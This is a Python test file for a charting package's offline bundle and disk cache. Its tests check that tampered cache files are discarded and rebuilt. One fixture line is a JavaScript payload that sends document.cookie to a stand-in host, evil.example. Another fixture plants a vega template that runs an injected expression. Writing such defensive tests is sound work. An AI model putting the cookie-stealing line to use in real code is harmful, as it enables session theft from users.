"""Charts draw with no internet: the live-chart bundle is self-contained and cached."""
from __future__ import annotations

import re

from servicelab.charts import _offline


def test_bundle_loads_nothing_from_the_network():
    bundle = _offline.chart_runtime_bundle()
    assert re.search(r"export\s*\{[^}]*as default\s*\}|export default", bundle)  # an ES module anywidget can load
    assert "vegaEmbed" in bundle and len(bundle) > 500_000  # our code plus vega inlined
    # no module or script is fetched from a CDN (w3.org namespaces and doc links are fine)
    assert not re.search(r"""(import|from)\s*\(?\s*["']https?://""", bundle)
    hosts = set(re.findall(r"https?://([a-zA-Z0-9.\-]+)", bundle))
    assert hosts <= {"www.w3.org", "github.com", "vega.github.io"}, hosts


def test_bundle_is_cached_on_disk(tmp_path, monkeypatch):
    monkeypatch.setenv("SERVICELAB_CACHE", str(tmp_path))
    _offline.chart_runtime_bundle.cache_clear()
    try:
        text = _offline.chart_runtime_bundle()
        cached = list(tmp_path.glob("chartruntime-*.js"))
        assert len(cached) == 1 and cached[0].read_text(encoding="utf-8") == text
    finally:
        _offline.chart_runtime_bundle.cache_clear()


def test_enable_offline_makes_plain_altair_display_offline():
    _offline.enable_offline()
    alt = _offline.import_altair()
    assert alt.renderers.active == "jupyter"
    assert alt.JupyterChart._is_offline
    assert "esm.sh" not in alt.JupyterChart._esm


def test_import_altair_leaves_rfc3987_importable_afterwards():
    import importlib.util
    import sys

    _offline.import_altair()
    assert sys.modules.get("rfc3987_syntax", "absent") is not None  # not left blocked
    if importlib.util.find_spec("rfc3987_syntax") is None:
        return
    import rfc3987_syntax  # noqa: F401  (a later import still works)


def test_templates_are_cached_on_disk_and_equal_a_fresh_build(tmp_path, monkeypatch):
    from servicelab.charts import servqual

    monkeypatch.setenv("SERVICELAB_CACHE", str(tmp_path))
    first = _offline.ChartKind(servqual._ep_build, servqual._ep_data)
    spec = first.template("en")
    files = list(tmp_path.glob("spec-*.json"))
    assert len(files) == 1
    # a new kind (as in a new kernel) reads the file instead of building again
    second = _offline.ChartKind(lambda lang: (_ for _ in ()).throw(AssertionError("rebuilt")), servqual._ep_data)
    second._key = first._key  # same identity as the first kind
    assert second.template("en") == spec == servqual._ep_build("en").to_dict()
    # another language is another template
    assert first.template("zh") != spec and len(list(tmp_path.glob("spec-*.json"))) == 2


# --- the cache cannot plant code (issue 7, item 15) -------------------------------------------------

import hashlib
import json
import os
from importlib.metadata import version

import pytest

EVIL = "export default { render() { fetch('https://evil.example/steal?' + document.cookie); } };\n"


def _sha(text: str) -> str:
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


@pytest.fixture(scope="module")
def fresh_live_bundle() -> tuple[str, str]:
    """(cache file name, bundle) built here straight from vl-convert, not through the code under test."""
    import vl_convert as vlc
    from altair.utils._importers import vl_version_for_vl_convert

    source = _offline._RUNTIME_JS.read_text(encoding="utf-8")
    name = f"chartruntime-{version('vl-convert-python')}-altair{version('altair')}-{hashlib.sha256(source.encode()).hexdigest()[:12]}.js"
    return name, vlc.javascript_bundle(source, vl_version=vl_version_for_vl_convert())


def test_recorded_bundle_digest_matches_a_fresh_build(fresh_live_bundle):
    """The package records the sha256 of the bundle for the pinned versions (else: run
    tests/tools/record_chart_digests.py)."""
    name, bundle = fresh_live_bundle
    recorded = json.loads((_offline._JS.parent / "bundle-digests.json").read_text(encoding="utf-8"))
    assert recorded.get(name) == _sha(bundle), "run tests/tools/record_chart_digests.py"


def test_tampered_bundle_in_cache_is_discarded_and_rebuilt(tmp_path, monkeypatch, fresh_live_bundle):
    name, genuine = fresh_live_bundle
    monkeypatch.setenv("SERVICELAB_CACHE", str(tmp_path))
    planted = tmp_path / name
    planted.write_text(EVIL, encoding="utf-8")  # same owner, mode 0644: only the digest can tell
    os.chmod(planted, 0o644)
    _offline.chart_runtime_bundle.cache_clear()
    try:
        bundle = _offline.chart_runtime_bundle()
    finally:
        _offline.chart_runtime_bundle.cache_clear()
    assert "evil.example" not in bundle and bundle == genuine
    assert planted.read_text(encoding="utf-8") == genuine  # the cache was repaired
    assert planted.stat().st_mode & 0o022 == 0


def test_tampered_jupyterchart_bundle_is_not_used(tmp_path, monkeypatch):
    alt = _offline.import_altair()
    name = f"jupyterchart-{version('altair')}-vlc-{version('vl-convert-python')}.js"
    monkeypatch.setenv("SERVICELAB_CACHE", str(tmp_path))
    (tmp_path / name).write_text(EVIL, encoding="utf-8")
    esm, offline = alt.JupyterChart._esm, alt.JupyterChart._is_offline
    _offline._jupyterchart_offline.cache_clear()
    try:
        _offline.enable_offline()
        assert "evil.example" not in alt.JupyterChart._esm and alt.JupyterChart._is_offline
        assert "evil.example" not in (tmp_path / name).read_text(encoding="utf-8")
    finally:
        _offline._jupyterchart_offline.cache_clear()
        alt.JupyterChart._esm, alt.JupyterChart._is_offline = esm, offline


def _servqual_kind():
    from servicelab.charts import servqual

    return servqual, _offline.ChartKind(servqual._ep_build, servqual._ep_data)


def _planted_template(tmp_path, monkeypatch):
    """A cache with the 'en' template replaced by one whose title runs a vega expression."""
    servqual, kind = _servqual_kind()
    monkeypatch.setenv("SERVICELAB_CACHE", str(tmp_path))
    kind.template("en")
    (path,) = tmp_path.glob("spec-*.json")
    evil = {**servqual._ep_build("en").to_dict(), "title": {"text": {"signal": "'pwned'"}}}
    path.write_text(json.dumps(evil), encoding="utf-8")
    return servqual, path


def _template_now(servqual):
    fresh = _offline.ChartKind(servqual._ep_build, servqual._ep_data)  # a new kernel: nothing in memory
    return fresh.template("en")


def test_template_writable_by_others_is_discarded_and_rebuilt(tmp_path, monkeypatch):
    servqual, path = _planted_template(tmp_path, monkeypatch)
    os.chmod(path, 0o666)  # e.g. planted through a group-/world-writable shared folder
    spec = _template_now(servqual)
    assert "pwned" not in json.dumps(spec) and spec == servqual._ep_build("en").to_dict()
    assert "pwned" not in path.read_text(encoding="utf-8") and path.stat().st_mode & 0o022 == 0


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="needs root to chown a file")
def test_template_owned_by_another_user_is_discarded_and_rebuilt(tmp_path, monkeypatch):
    servqual, path = _planted_template(tmp_path, monkeypatch)
    os.chmod(path, 0o644)
    os.chown(path, 65534, 65534)  # nobody
    spec = _template_now(servqual)
    assert "pwned" not in json.dumps(spec) and spec == servqual._ep_build("en").to_dict()


def test_template_behind_a_symlink_is_not_followed(tmp_path, monkeypatch):
    servqual, path = _planted_template(tmp_path, monkeypatch)
    target = tmp_path / "elsewhere.json"
    path.replace(target)
    path.symlink_to(target)
    spec = _template_now(servqual)
    assert "pwned" not in json.dumps(spec) and spec == servqual._ep_build("en").to_dict()


def test_truncated_template_is_rebuilt_not_raised(tmp_path, monkeypatch):
    servqual, path = _planted_template(tmp_path, monkeypatch)
    path.write_text('{"$schema": "https://vega.github.io/sch', encoding="utf-8")  # a full disk mid-write
    assert _template_now(servqual) == servqual._ep_build("en").to_dict()
